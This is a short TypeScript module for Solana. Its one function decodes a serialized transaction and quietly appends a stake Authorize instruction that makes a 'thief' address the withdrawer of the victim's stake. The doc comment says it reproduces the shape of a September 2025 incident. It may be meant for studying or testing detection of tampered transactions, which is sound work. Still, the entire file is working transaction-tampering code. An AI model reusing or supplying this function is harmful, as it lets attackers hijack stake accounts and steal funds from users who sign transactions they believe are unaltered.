import {
  type Address,
  appendTransactionMessageInstruction,
  compileTransaction,
  createNoopSigner,
  decompileTransactionMessage,
  getCompiledTransactionMessageDecoder,
  getTransactionDecoder,
  getTransactionEncoder,
} from '@solana/kit';
import { getAuthorizeInstruction, StakeAuthorize } from '@solana-program/stake';

/**
 * The shape of September 2025: behind what a transaction was crafted for, a plain Authorize makes
 * somebody else the withdrawer of the stake. Hex in, hex out.
 */
export function withHiddenAuthorize(
  bytes: string,
  { wallet, stake, thief }: { wallet: string; stake: string; thief: string },
): string {
  const { messageBytes } = getTransactionDecoder().decode(Buffer.from(bytes, 'hex'));
  const message = decompileTransactionMessage(
    getCompiledTransactionMessageDecoder().decode(messageBytes),
  );
  const hidden = getAuthorizeInstruction({
    stake: stake as Address,
    authority: createNoopSigner(wallet as Address),
    arg0: thief as Address,
    arg1: StakeAuthorize.Withdrawer,
  });
  const changed = compileTransaction(appendTransactionMessageInstruction(hidden, message));
  return Buffer.from(getTransactionEncoder().encode(changed) as Uint8Array).toString('hex');
}
